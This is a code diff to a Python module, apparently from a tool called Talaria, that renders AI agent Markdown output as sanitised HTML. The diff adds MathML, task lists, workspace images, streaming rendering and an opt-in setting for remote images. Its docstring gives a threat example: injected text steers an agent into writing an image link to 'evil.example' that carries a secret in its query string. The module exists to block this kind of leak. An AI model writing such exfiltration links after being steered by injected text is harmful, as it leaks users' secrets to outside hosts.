@@ -8,9 +8,17 @@ let a script, style, frame, form, event handler or ``style`` attribute through.
 Decisions:
 - Links keep only ``http``, ``https`` and ``mailto`` URLs (relative URLs are removed: they would point at
   Talaria's own origin) and get ``rel="noopener noreferrer nofollow"`` and ``target="_blank"``.
-- Images are rendered as links, never as ``<img>``: an agent that has read hostile text can be steered
+- Remote images are rendered as links, not ``<img>``: an agent that has read hostile text can be steered
   into writing ``![](https://evil.example/?q=<secret>)``, and an auto-loading image would send that
-  request without a click. The link keeps the alt text and obeys the link scheme rules.
+  request without a click. The link keeps the alt text and obeys the link scheme rules. The
+  ``remote_images`` setting turns them into ``<img>`` for those who accept that.
+- A relative image (a file of the session's workspace) becomes ``<img data-media="path">`` with no
+  ``src``: the page points it at the validated media route of the session it shows, so one rendering
+  serves every session and nothing here knows the workspace.
+- Math (``$…$``, ``$$…$$``) becomes MathML through latex2mathml; task lists become disabled checkboxes;
+  bare URLs become links (linkify).
+- ``partial=True`` renders an answer that is still streaming: a fenced block that has not closed yet is
+  shown as plain text and highlighted once its closing fence arrives; partial texts skip the cache.
 - ``class`` is allowed on ``code``, ``span``, ``pre`` and ``div`` only (Pygments tokens, ``highlight``,
   ``language-x``); table alignment becomes ``align="left|center|right"`` instead of a ``style``.
 - Fenced code is highlighted by Pygments into ``<pre class="highlight"><code class="language-x">``;
@@ -25,14 +33,16 @@ Decisions:
 from __future__ import annotations
 
 import functools
-import importlib.util
 import re
 import threading
 from collections import OrderedDict
 
 import nh3
+from latex2mathml.converter import convert as latex_to_mathml
 from markdown_it import MarkdownIt
 from markdown_it.common.utils import escapeHtml, unescapeAll
+from mdit_py_plugins.dollarmath import dollarmath_plugin
+from mdit_py_plugins.tasklists import tasklists_plugin
 from pygments import highlight
 from pygments.formatters import HtmlFormatter
 from pygments.lexers import get_lexer_by_name
@@ -47,18 +57,36 @@ MARKDOWN_MAX_BRACKETS = 50_000
 CACHE_MAX_ENTRIES = 8192
 CACHE_MAX_CHARS = 48_000_000
 
-HAS_LINKIFY = importlib.util.find_spec("linkify_it") is not None
+# LaTeX past this size is shown as code: latex2mathml's cost grows with it.
+MATH_MAX_CHARS = 4000
 
 _LANG_RE = re.compile(r"[A-Za-z0-9_+#.-]{1,40}")
+_SCHEME_RE = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*:")
 _ALIGN_RE = re.compile(r"text-align:(left|center|right)")
 _TEXT_PART_TYPES = frozenset({"text", "input_text", "output_text"})
 
+MATHML_TAGS = frozenset(
+    {
+        "math", "mrow", "mi", "mo", "mn", "ms", "mtext", "mspace", "msup", "msub", "msubsup", "mfrac",
+        "msqrt", "mroot", "mtable", "mtr", "mtd", "munder", "mover", "munderover", "mstyle", "mpadded",
+        "mphantom", "menclose", "merror", "semantics", "annotation",
+    }
+)  # fmt: skip
+MATHML_ATTRIBUTES = frozenset(
+    {
+        "display", "mathvariant", "stretchy", "fence", "separator", "lspace", "rspace", "columnalign",
+        "accent", "accentunder", "linethickness", "displaystyle", "scriptlevel", "width", "height",
+        "depth", "notation", "encoding", "form", "minsize", "maxsize", "movablelimits", "symmetric",
+        "largeop", "columnspacing", "rowspacing", "columnlines", "rowlines", "frame",
+    }
+)  # fmt: skip
 ALLOWED_TAGS = frozenset(
     {
         "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li",
         "pre", "code", "span", "div", "em", "strong", "s", "del", "a",
-        "table", "thead", "tbody", "tr", "th", "td",
+        "table", "thead", "tbody", "tr", "th", "td", "img", "input",
     }
+    | MATHML_TAGS
 )  # fmt: skip
 ALLOWED_ATTRIBUTES = {
     "a": {"href", "title"},
@@ -67,21 +95,40 @@ ALLOWED_ATTRIBUTES = {
     "span": {"class"},
     "pre": {"class"},
     "div": {"class"},
+    "li": {"class"},
+    "ul": {"class"},
+    "img": {"alt", "title", "data-media"},
+    "input": {"checked", "disabled", "class"},
+    **{tag: set(MATHML_ATTRIBUTES) for tag in MATHML_TAGS},
 }
 URL_SCHEMES = frozenset({"http", "https", "mailto"})
 LINK_REL = "noopener noreferrer nofollow"
 
 _ALIGNMENTS = {"left", "center", "right"}
-_CLEANER = nh3.Cleaner(
-    tags=set(ALLOWED_TAGS),
-    clean_content_tags={"script", "style"},
-    attributes={tag: set(attrs) for tag, attrs in ALLOWED_ATTRIBUTES.items()},
-    tag_attribute_values={"th": {"align": _ALIGNMENTS}, "td": {"align": _ALIGNMENTS}},
-    set_tag_attribute_values={"a": {"target": "_blank"}},
-    link_rel=LINK_REL,
-    url_schemes=set(URL_SCHEMES),
-    url_relative="deny",
-    strip_comments=True,
+
+
+def _cleaner(attributes: dict[str, set[str]]) -> nh3.Cleaner:
+    return nh3.Cleaner(
+        tags=set(ALLOWED_TAGS),
+        clean_content_tags={"script", "style"},
+        attributes=attributes,
+        tag_attribute_values={
+            "th": {"align": _ALIGNMENTS},
+            "td": {"align": _ALIGNMENTS},
+            "input": {"type": {"checkbox"}},
+        },
+        set_tag_attribute_values={"a": {"target": "_blank"}},
+        link_rel=LINK_REL,
+        url_schemes=set(URL_SCHEMES),
+        url_relative="deny",
+        strip_comments=True,
+    )
+
+
+_CLEANER = _cleaner({tag: set(attrs) for tag, attrs in ALLOWED_ATTRIBUTES.items()})
+# With the remote_images setting on, <img> may also carry an absolute src (https, by URL_SCHEMES).
+_CLEANER_REMOTE_IMAGES = _cleaner(
+    {tag: set(attrs) | ({"src"} if tag == "img" else set()) for tag, attrs in ALLOWED_ATTRIBUTES.items()}
 )
 
 _FORMATTER = HtmlFormatter(nowrap=True)
@@ -102,24 +149,61 @@ def _highlight_code(code: str, lang: str) -> str:
     return highlight(code, lexer, _FORMATTER)
 
 
+def _fence_is_open(token, env) -> bool:
+    """Whether a fence of a partial text has not reached its closing marker yet."""
+    lines = env.get("partial_lines")
+    if lines is None or not token.map:
+        return False
+    start, end = token.map
+    last = lines[end - 1].strip() if end - 1 < len(lines) else ""
+    closing = token.markup[0] * len(token.markup)
+    return end - 1 <= start or not (last.startswith(closing) and set(last) == {token.markup[0]})
+
+
 def _render_fence(self, tokens, idx, options, env) -> str:
     token = tokens[idx]
     info = unescapeAll(token.info).strip() if token.info else ""
     first = info.split(maxsplit=1)[0] if info else ""
     lang = first if _LANG_RE.fullmatch(first) else ""
     code_class = f' class="language-{escapeHtml(lang)}"' if lang else ""
-    return f'<pre class="highlight"><code{code_class}>{_highlight_code(token.content, lang)}</code></pre>\n'
+    body = escapeHtml(token.content) if _fence_is_open(token, env) else _highlight_code(token.content, lang)
+    return f'<pre class="highlight"><code{code_class}>{body}</code></pre>\n'
+
+
+def _is_relative_path(src: str) -> bool:
+    return bool(src) and not _SCHEME_RE.match(src) and not src.startswith(("/", "\\", "#", "?"))
 
 
 def _render_image(self, tokens, idx, options, env) -> str:
     token = tokens[idx]
     src = token.attrGet("src") or ""
     alt = self.renderInlineAsText(token.children or [], options, env)
-    if not alt:
-        alt = src if len(src) <= 200 and not src.lower().startswith("data:") else "image"
     title = token.attrGet("title")
     title_attr = f' title="{escapeHtml(title)}"' if title else ""
+    if _is_relative_path(src):
+        return f'<img data-media="{escapeHtml(unescapeAll(src))}" alt="{escapeHtml(alt)}"{title_attr}>'
+    if env.get("remote_images") and src.lower().startswith("https://"):
+        return f'<img src="{escapeHtml(src)}" alt="{escapeHtml(alt)}"{title_attr}>'
+    if not alt:
+        alt = src if len(src) <= 200 and not src.lower().startswith("data:") else "image"
     return f'<a href="{escapeHtml(src)}"{title_attr}>{escapeHtml(alt)}</a>'
+
+
+def _math(latex: str, display: str) -> str:
+    if len(latex) > MATH_MAX_CHARS:
+        return f'<code class="math-source">{escapeHtml(latex)}</code>'
+    try:
+        return latex_to_mathml(latex, display=display)
+    except Exception:  # noqa: BLE001 - malformed LaTeX stays readable as its source
+        return f'<code class="math-source">{escapeHtml(latex)}</code>'
+
+
+def _render_math_inline(self, tokens, idx, options, env) -> str:
+    return _math(tokens[idx].content, "inline")
+
+
+def _render_math_block(self, tokens, idx, options, env) -> str:
+    return f'<div class="math-block">{_math(tokens[idx].content, "block")}</div>\n'
 
 
 def _table_align_to_attr(state) -> None:
@@ -133,12 +217,16 @@ def _table_align_to_attr(state) -> None:
 
 
 def _build_markdown() -> MarkdownIt:
-    md = MarkdownIt("commonmark", {"html": False, "linkify": HAS_LINKIFY, "typographer": False})
-    md.enable(["table", "strikethrough"])
-    if HAS_LINKIFY:
-        md.enable("linkify")
+    md = MarkdownIt("commonmark", {"html": False, "linkify": True, "typographer": False})
+    md.enable(["table", "strikethrough", "linkify"])
+    md.use(dollarmath_plugin, allow_space=False, double_inline=True)
+    md.use(tasklists_plugin)
     md.add_render_rule("fence", _render_fence)
     md.add_render_rule("image", _render_image)
+    md.add_render_rule("math_inline", _render_math_inline)
+    md.add_render_rule("math_inline_double", _render_math_block)
+    md.add_render_rule("math_block", _render_math_block)
+    md.add_render_rule("math_block_label", _render_math_block)
     md.core.ruler.push("talaria_table_align", _table_align_to_attr)
     return md
 
@@ -204,32 +292,44 @@ def _too_costly_for_markdown(text: str) -> bool:
     return len(text) > MARKDOWN_MAX_CHARS or text.count("[") > MARKDOWN_MAX_BRACKETS
 
 
-def sanitize_html(html: str) -> str:
+def sanitize_html(html: str, *, remote_images: bool = False) -> str:
     """Clean an HTML fragment against the render allow-list (the second of the two layers)."""
-    return _CLEANER.clean(html)
+    return (_CLEANER_REMOTE_IMAGES if remote_images else _CLEANER).clean(html)
 
 
-def _render_uncached(text: str) -> str:
+def _remote_images() -> bool:
+    from api import config  # at call time: the setting can change while the server runs
+
+    return bool(config.setting("remote_images"))
+
+
+def _render_uncached(text: str, *, partial: bool = False, remote_images: bool = False) -> str:
     if _too_costly_for_markdown(text):
         text = text.encode("utf-8", "replace").decode("utf-8")
         return f'<pre class="plain-text"><code>{escapeHtml(text)}</code></pre>\n'
+    env = {"remote_images": remote_images}
+    if partial:
+        env["partial_lines"] = text.split("\n")
     try:
-        return sanitize_html(_MD.render(text))
+        return sanitize_html(_MD.render(text, env), remote_images=remote_images)
     except UnicodeEncodeError:
         # Lone surrogates (valid in Python and JSON, not in UTF-8) cannot cross into nh3.
-        return _render_uncached(text.encode("utf-8", "replace").decode("utf-8"))
+        clean = text.encode("utf-8", "replace").decode("utf-8")
+        return _render_uncached(clean, partial=partial, remote_images=remote_images)
 
 
-def render_markdown(text: str) -> str:
-    """Markdown text → sanitized HTML fragment; repeated texts come from an LRU cache."""
+def render_markdown(text: str, *, partial: bool = False) -> str:
+    """Markdown text → sanitized HTML fragment; repeated whole texts come from an LRU cache."""
     if not isinstance(text, str):
         text = "" if text is None else str(text)
-    if len(text) > MARKDOWN_MAX_CHARS:
-        return _render_uncached(text)  # cheap plain text; not worth a cache slot
-    html = _CACHE.get(text)
+    remote = _remote_images()
+    if partial or len(text) > MARKDOWN_MAX_CHARS:
+        return _render_uncached(text, partial=partial, remote_images=remote)
+    key = f"\x00remote\x00{text}" if remote else text
+    html = _CACHE.get(key)
     if html is None:
-        html = _render_uncached(text)
-        _CACHE.put(text, html)
+        html = _render_uncached(text, remote_images=remote)
+        _CACHE.put(key, html)
     return html
 
 
